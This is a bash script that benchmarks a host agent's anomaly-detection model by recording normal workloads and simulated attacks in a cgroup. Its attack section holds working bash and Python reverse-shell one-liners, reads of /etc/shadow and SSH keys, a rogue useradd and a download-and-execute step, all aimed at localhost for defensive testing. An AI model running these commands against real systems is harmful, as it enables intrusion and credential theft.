#!/usr/bin/env bash
# The anomaly model on real programs of this machine (root; about 3
# minutes; `cargo build --release -p zt-agent` first, or BIN=path):
# through a running agent, `model record` records a cgroup identity running
# normal workloads (shell pipelines, a Python script, gcc -c, tar, git,
# curl to a local server) twice, 60 s each (train, test), and attack-like
# ones for 40 s (bash and Python reverse shells to a local listener that
# sends commands, /etc/shadow, a search for SSH keys, useradd into a
# prefix, download-and-execute, a filesystem walk, a hashing loop); then
# `model train` on the first normal set and `model eval` with the second
# (split by eval into calibration and held-out halves) and the attacks.
# Figures in BENCHMARKS.md. Uses 127.0.0.1:18080 and :18081.
set -u
BIN=${BIN:-$(cd "$(dirname "$0")/.." && pwd)/target/release/zt-agent}
W=${W:-/tmp/zt-anomaly-eval}; rm -rf $W; mkdir -p $W/site $W/work
CG2=$(awk '$3=="cgroup2"{print $2; exit}' /proc/mounts)
CG=$CG2/zt-eval/agent; mkdir -p $CG
cat > $W/p.yaml <<P
apiVersion: zt-agent.io/v1alpha1
kind: HostPolicy
metadata: {name: eval}
spec:
  trustDomain: zt.eval
  identities:
    - name: agent
      selectors:
        - cgroup: /zt-eval/agent/**
  rules:
    - name: local
      identity: agent
      action: allow
      egress:
        - to: [127.0.0.1/32]
P
$BIN run --policy $W/p.yaml --state-dir $W/state --no-pin --audit-dir $W/audit --audit-key $W/audit.key --events $W/ev.jsonl --socket $W/ctl.sock > $W/agent.log 2>&1 &
AGENT=$!
sleep 5
echo 'print("hello")' > $W/site/payload.py
printf '#!/bin/sh\nid; uname -a; cat /etc/hostname\n' > $W/site/payload.sh
(cd $W/site && python3 -m http.server 18080 --bind 127.0.0.1 >/dev/null 2>&1 &) 
python3 - <<'PY' &
import socket, threading
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind(("127.0.0.1", 18081)); s.listen(50)
def h(c):
    try:
        c.sendall(b"id\nuname -a\nls /\nexit\n"); c.settimeout(3)
        while c.recv(4096): pass
    except Exception: pass
    c.close()
while True:
    c, _ = s.accept(); threading.Thread(target=h, args=(c,), daemon=True).start()
PY
LISTENER=$!
printf 'int add(int a, int b) { return a + b; }\n' > $W/work/a.c
cat > $W/work/s.py <<'PY'
import json, hashlib, os, sys
d = {str(i): i * i for i in range(2000)}
s = json.dumps(d); h = hashlib.sha256(s.encode()).hexdigest()
open(sys.argv[1], "w").write(h)
os.listdir("/etc")
PY
incg() { sh -c "echo \$\$ > $CG/cgroup.procs; exec \"\$@\"" sh "$@"; }
normal_once() {
  case $((RANDOM % 9)) in
    0) incg sh -c 'ls -la /usr/bin | sort | head -50 >/dev/null; cat /etc/passwd | grep -c sh >/dev/null' ;;
    1) incg sh -c "sed -n '1,20p' /etc/services | awk '{print \$1}' >/dev/null; wc -l /etc/*.conf >/dev/null 2>&1" ;;
    2) incg python3 $W/work/s.py $W/work/out.txt ;;
    3) incg gcc -c $W/work/a.c -o $W/work/a.o ;;
    4) incg tar czf $W/work/t.tgz -C /etc hostname passwd group ;;
    5) incg sh -c "cd $W/work && rm -rf g && git init -q g && cd g && echo x > f && git add f && git -c user.email=a@b -c user.name=a commit -qm m" ;;
    6) incg curl -s -o /dev/null http://127.0.0.1:18080/payload.py ;;
    7) incg sh -c 'find /etc -maxdepth 1 -name "*.conf" | head -5 >/dev/null; date >/dev/null' ;;
    8) incg sh -c 'for f in /etc/hostname /etc/os-release; do cat $f >/dev/null; done; uname -a >/dev/null' ;;
  esac
}
attack_once() {
  case $((RANDOM % 8)) in
    0) incg bash -c 'exec 3<>/dev/tcp/127.0.0.1/18081; while read -r l <&3; do [ "$l" = exit ] && break; eval "$l" >&3 2>&1; done' ;;
    1) incg python3 -c 'import socket,os,subprocess;s=socket.socket();s.connect(("127.0.0.1",18081));[os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call(["/bin/sh","-i"])' 2>/dev/null ;;
    2) incg sh -c 'cat /etc/shadow > /dev/null; cat /etc/gshadow >/dev/null 2>&1' ;;
    3) incg sh -c 'find / -xdev -name "id_*" -path "*.ssh*" 2>/dev/null | head; cat /root/.ssh/* 2>/dev/null >/dev/null' ;;
    4) incg sh -c "mkdir -p $W/pfx/etc && cp /etc/passwd /etc/group /etc/shadow $W/pfx/etc/ 2>/dev/null; useradd --prefix $W/pfx evil\$RANDOM 2>/dev/null" ;;
    5) incg sh -c "curl -s -o $W/work/p.sh http://127.0.0.1:18080/payload.sh && chmod +x $W/work/p.sh && $W/work/p.sh >/dev/null" ;;
    6) incg sh -c 'find /usr -type f 2>/dev/null | head -3000 | xargs -r stat >/dev/null 2>&1' ;;
    7) incg sh -c 'i=0; while [ $i -lt 30 ]; do sha256sum /usr/bin/bash >/dev/null; i=$((i+1)); done' ;;
  esac
}
record() { $BIN model record --identity agent --duration $2 --out $W/$1 --socket $W/ctl.sock; }
for set in normal-train normal-test; do
  record $set 60s & R=$!; sleep 1
  end=$((SECONDS+57)); while [ $SECONDS -lt $end ]; do normal_once >/dev/null 2>&1; done; wait $R
done
record attack 40s & R=$!; sleep 1
end=$((SECONDS+37)); while [ $SECONDS -lt $end ]; do attack_once >/dev/null 2>&1; done; wait $R
kill $AGENT $LISTENER; pkill -f "http.server 18080"; sleep 1; rmdir $CG $CG2/zt-eval 2>/dev/null
$BIN model train --input $W/normal-train --out $W/model.json
$BIN model eval --model $W/model.json --normal $W/normal-test --attack $W/attack
$BIN model eval --model $W/model.json --normal $W/normal-test --attack $W/attack --json > $W/eval.json
